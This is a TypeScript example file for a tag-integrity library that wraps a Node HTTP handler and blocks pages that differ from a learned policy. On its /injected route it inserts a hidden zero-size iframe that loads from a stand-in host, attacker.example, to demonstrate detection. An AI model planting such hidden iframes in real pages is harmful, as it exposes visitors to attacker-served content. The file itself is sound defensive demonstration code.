/**
 * tagwarden in a plain node:http server: one line around the request handler.
 *
 *   PORT=3000 node --import tsx examples/node-http.ts
 *
 * then open http://127.0.0.1:3000/ and http://127.0.0.1:3000/injected. The handler serves
 * examples/pages/shop.html; /injected serves it with an attack <iframe> inserted, as a compromised
 * origin or a tampering hop would. The policy is examples/policies/learned.json, written by
 * `tagwarden learn` from that page: the clean page passes byte for byte, the tampered one gets the
 * 502 block page and the violation is printed. (In your code: `import { wrapHandler } from 'tagwarden/embed'`.)
 */
import { readFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { wrapHandler } from '../src/entries/embed.js'

const page = readFileSync(new URL('./pages/shop.html', import.meta.url), 'utf8')
const ATTACK = '<iframe src="http://attacker.example/exploit" width="0" height="0"></iframe>'

function handler(req: IncomingMessage, res: ServerResponse): void {
  const html = req.url === '/injected' ? page.replace('<main>', `<main>${ATTACK}`) : page
  res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' })
  res.end(html)
}

const server = createServer(
  wrapHandler(handler, {
    // A file: read once, at start; a bad one rejects `ready` (and fails requests closed).
    policy: new URL('./policies/learned.json', import.meta.url),
    onViolation: (v, req) =>
      console.log(`violation: ${v.directive} <${v.element} ${v.attribute}="${v.value}"> on ${req.url}`),
  }),
)
server.listen(Number(process.env.PORT ?? 3000), '127.0.0.1', () => {
  console.log(`listening on http://127.0.0.1:${(server.address() as AddressInfo).port}`)
})
